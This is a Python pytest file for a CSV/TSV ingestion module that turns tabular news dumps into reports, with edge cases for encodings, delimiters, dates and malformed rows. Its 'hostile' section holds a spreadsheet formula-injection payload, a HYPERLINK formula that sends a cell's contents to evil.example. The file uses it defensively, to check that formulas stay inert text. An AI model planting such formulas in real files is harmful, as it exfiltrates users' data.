from __future__ import annotations

import codecs
from datetime import date
from pathlib import Path

import pytest

from frontwire.errors import InputError
from frontwire.model.parcel import Format
from frontwire.unpacking import Columns, DayOrder, Layout
from unpacking_support import Open, names, parcels, texts, troubles

TABLE = """id,headline,date,outlet,body
a1,Shells fall,2013-06-05,Tarmin Post,"Shells fell on ""Tarmin"", officials said.
Two died."
a2,,2013-06-06,Homs Daily,Trucks waited.
"""


def written(tmp_path: Path, text: str | bytes, name: str = "dump.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def test_rows_become_reports(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, TABLE)
    first, second = parcels(opened(path))
    assert (first.name, second.name) == (f"{path}#a1", f"{path}#a2")
    assert first.content == 'Shells fall\n\nShells fell on "Tarmin", officials said.\nTwo died.'
    assert (first.told.published, first.told.outlet, first.told.title) == (
        date(2013, 6, 5),
        "Tarmin Post",
        "Shells fall",
    )
    assert second.content == "Trucks waited."


@pytest.mark.parametrize("delimiter", [",", "\t", ";", "|"])
def test_any_usual_delimiter(opened: Open, tmp_path: Path, delimiter: str) -> None:
    rows = [("id", "text", "note"), ("1", "Shells fell on Tarmin", "x"), ("2", "Trucks waited", "y")]
    text = "".join(delimiter.join(row) + "\n" for row in rows)
    assert texts(opened(written(tmp_path, text))) == ["Shells fell on Tarmin", "Trucks waited"]


def test_quotation_marks_in_tabs_are_words(opened: Open, tmp_path: Path) -> None:
    found = opened(written(tmp_path, 'id\ttext\n1\tthe "army" shelled\n2\ta "camp fell\n', "dump.tsv"))
    assert texts(found) == ['the "army" shelled', 'a "camp fell']


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252"])
def test_any_usual_encoding(opened: Open, tmp_path: Path, encoding: str) -> None:
    data = (TABLE.replace("Trucks waited.", "The curé of Tarmin waited at the café. " * 20)).encode(encoding)
    mark = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    assert texts(opened(written(tmp_path, mark + data)))[1].startswith("The curé of Tarmin waited at the café.")


def test_an_encoding_may_be_given(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, "text,id\nقصف,1\n".encode("cp1256"))
    assert texts(opened(path, layout=Layout(encoding="cp1256"))) == ["قصف"]
    (left,) = opened(path, layout=Layout(encoding="klingon"))
    assert "no encoding" in left.because


def test_a_line_in_another_encoding_takes_only_itself(opened: Open, tmp_path: Path) -> None:
    data = TABLE.replace("Trucks waited.", "The café.").encode() + "a3,,,,The curé.\n".encode("cp1252")
    assert texts(opened(written(tmp_path, data)))[1:] == ["The café.", "The curé."]


def test_a_table_on_standard_input_is_known_by_its_shape(opened: Open) -> None:
    assert len(parcels(opened(TABLE.encode()))) == 2
    (only,) = parcels(
        opened(b"Shells fell on Homs, Syria, officials said.\nTwo, three, four died.\nMore, later, on.\n")
    )
    assert only.format is None


def test_as_says_what_it_is(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, TABLE, "dump.txt")
    assert parcels(opened(path))[0].name == str(path)
    assert names(opened(path, asked=Format.CSV)) == [f"{path}#a1", f"{path}#a2"]


def test_columns_may_be_named(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, "n,was,wann,text\n7,Shells fell.,05/06/2013,-\n")
    layout = Layout(Columns(text=("Was",), date=("wann",), id=("n",)), day_order=DayOrder.DMY)
    (only,) = parcels(opened(path, layout=layout))
    assert (only.name, only.content, only.told.published) == (f"{path}#7", "Shells fell.", date(2013, 6, 5))


def test_a_column_that_there_is_not_is_told_with_those_there_are(opened: Open, tmp_path: Path) -> None:
    (left,) = opened(written(tmp_path, TABLE), layout=Layout(Columns(text=("words",))))
    assert left.because == "no column is called 'words': the columns are id, headline, date, outlet, body"


def test_a_table_without_texts_is_told(opened: Open, tmp_path: Path) -> None:
    (left,) = opened(written(tmp_path, "facility,beds,staff\nTarmin,12,3\n"))
    assert "--text-column" in left.because
    assert "facility, beds, staff" in left.because


def test_without_a_header_columns_go_by_number(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, "17,Shells fell.,2013-06-05\n18,Trucks waited.,2013-06-06\n")
    (left,) = opened(path)
    assert "no header and 3 columns" in left.because
    found = opened(path, layout=Layout(Columns(text=("2",), date=("3",))))
    assert texts(found) == ["Shells fell.", "Trucks waited."]
    assert names(found)[0] == f"{path}#1"


def test_a_day_with_two_readings_is_left_open_and_said_to_be(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, "text,date\nShells fell.,05/06/2013\nTrucks waited.,06/06/2013\n")
    found = opened(path)
    assert [one.told.published for one in parcels(found)] == [None, date(2013, 6, 6)]
    (left,) = troubles(found)
    assert "05/06/2013 can be read in two ways" in left.because
    assert left.harmless


def test_a_day_elsewhere_in_the_column_settles_it(opened: Open, tmp_path: Path) -> None:
    found = opened(written(tmp_path, "text,date\nShells fell.,05/06/2013\nTrucks waited.,06/13/2013\n"))
    assert [one.told.published for one in parcels(found)] == [date(2013, 5, 6), date(2013, 6, 13)]


def test_rows_that_cannot_be_told_apart_are_refused_alone(opened: Open, tmp_path: Path) -> None:
    found = opened(written(tmp_path, "id,text\n1,Shells fell, officials said\n2,Trucks waited.\n3\n4,,\n"))
    assert texts(found) == ["Trucks waited."]
    more, *empty = troubles(found)
    assert "3 cells, more than the header's 2" in more.because
    assert [(one.because, one.harmless) for one in empty] == [("the row has no text", True)] * 2


def test_columns_of_one_name_are_told_apart(opened: Open, tmp_path: Path) -> None:
    found = opened(written(tmp_path, "text,text,\nShells fell.,-,x\n"), layout=Layout(Columns(text=("text (2)",))))
    assert texts(found) == ["-"]


# -- hostile ----------------------------------------------------------------------------------------------------------


def test_a_million_columns_are_refused(opened: Open, tmp_path: Path) -> None:
    header = "text" + ",a" * 1_000_000
    (left,) = opened(written(tmp_path, f"{header}\n{header}\n"))
    assert "1,000,001 columns" in left.because


def test_a_huge_cell_takes_only_its_row(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, f"id,text\n1,Shells fell.\n2,{'a' * 5000}\n3,Trucks waited.\n")
    found = opened(path, max_cell_chars=2000)
    assert texts(found) == ["Shells fell.", "Trucks waited."]
    assert "max_cell_chars" in troubles(found)[0].because


def test_an_open_quotation_mark_does_not_take_the_memory(opened: Open, tmp_path: Path) -> None:
    path = written(tmp_path, 'id,text\n1,Shells fell.\n2,"' + "Trucks waited.\n" * 10_000)
    found = opened(path, max_bytes=20_000)
    assert texts(found) == ["Shells fell."]
    assert "quotation mark left open" in troubles(found)[0].because


def test_a_line_without_end_does_not_take_the_memory(opened: Open, tmp_path: Path) -> None:
    found = opened(written(tmp_path, "id,text\n1,Shells fell.\n2," + "a" * 100_000), max_bytes=20_000)
    assert texts(found) == ["Shells fell."]
    assert "more than 20,000 bytes" in troubles(found)[0].because


def test_nul_characters_take_only_their_row(opened: Open, tmp_path: Path) -> None:
    found = opened(written(tmp_path, b"id,text\n1,Shells\x00 fell.\n2,Trucks waited.\n"))
    assert texts(found) == ["Trucks waited."]
    assert "NUL" in troubles(found)[0].because


def test_formulas_are_words(opened: Open, tmp_path: Path) -> None:
    cell = '=HYPERLINK(""https://evil.example?""&A1,""x"")'
    assert texts(opened(written(tmp_path, f'id,text\n1,"{cell}"\n'))) == [cell.replace('""', '"')]


@pytest.mark.parametrize("data", [b"", b"\n\n\n", b"id,text\n"])
def test_an_empty_table(opened: Open, tmp_path: Path, data: bytes) -> None:
    assert parcels(opened(written(tmp_path, data))) == []


def test_a_preset_that_there_is_not_is_an_error_with_a_guess(opened: Open, tmp_path: Path) -> None:
    (left,) = opened(written(tmp_path, TABLE), layout=Layout(preset="news-plaese"))
    assert "did you mean news-please?" in left.because
    assert InputError
